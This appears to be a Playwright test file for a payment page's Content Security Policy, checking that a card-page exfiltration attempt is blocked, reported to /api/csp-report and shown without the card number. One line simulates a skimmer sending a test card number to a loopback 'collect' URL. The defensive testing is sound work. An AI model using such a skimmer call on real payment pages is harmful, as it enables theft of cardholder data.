/**
 * CSP violation reports (issue "What merchants integrate with", item 4; PCI DSS 11.6.1): a script
 * on a payment page that tries to send data elsewhere is blocked, the browser's report reaches
 * /api/csp-report, and the console shows it, without the query the script tried to send.
 */
import { expect, test } from './fixtures';
import { createPayin, DEMO_TOKEN, expectNoAxeViolations } from './support';

test('a blocked exfiltration on the card page is reported and shown in the console', async ({ page, request }) => {
  const payin = await createPayin(request);
  await page.goto(payin.iframeUrls.card);
  await expect(page.getByLabel('Card number')).toBeVisible();
  // What a skimmer injected into the page would do; connect-src 'self' blocks it before any
  // connection (a closed loopback port besides, so nothing could leave the machine).
  const blocked = await page.evaluate(() =>
    fetch('https://127.0.0.1:9/collect?pan=4242424242424242').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(blocked).toBe('blocked');
  // The card page stays open while the browser sends its report; the console opens beside it.
  const console = await page.context().newPage();
  await expect
    .poll(
      async () => {
        await console.goto(`/sandbox?token=${DEMO_TOKEN}`);
        return console.getByRole('region', { name: 'Content Security Policy reports' }).getByText('https://127.0.0.1:9/collect').count();
      },
      { timeout: 30_000, intervals: [500, 1_000, 2_000] },
    )
    .toBeGreaterThan(0);
  const panel = console.getByRole('region', { name: 'Content Security Policy reports' });
  await expect(panel).toContainText('connect-src');
  await expect(panel).not.toContainText('4242');
  await expectNoAxeViolations(console, 'console with CSP reports');
});

test('the report endpoint refuses other types, bad JSON and oversized bodies without a 500', async ({ request }) => {
  expect((await request.post('/api/csp-report', { headers: { 'Content-Type': 'text/plain' }, data: 'x' })).status()).toBe(415);
  expect(
    (await request.post('/api/csp-report', { headers: { 'Content-Type': 'application/csp-report' }, data: '{not json' })).status(),
  ).toBe(400);
  expect(
    (
      await request.post('/api/csp-report', { headers: { 'Content-Type': 'application/reports+json' }, data: 'x'.repeat(70 * 1024) })
    ).status(),
  ).toBe(413);
  expect(
    (
      await request.post('/api/csp-report', {
        headers: { 'Content-Type': 'application/csp-report' },
        data: {
          'csp-report': {
            'effective-directive': 'img-src',
            'blocked-uri': 'https://x.example/a.png',
            'document-uri': 'http://localhost/p',
          },
        },
      })
    ).status(),
  ).toBe(204);
});
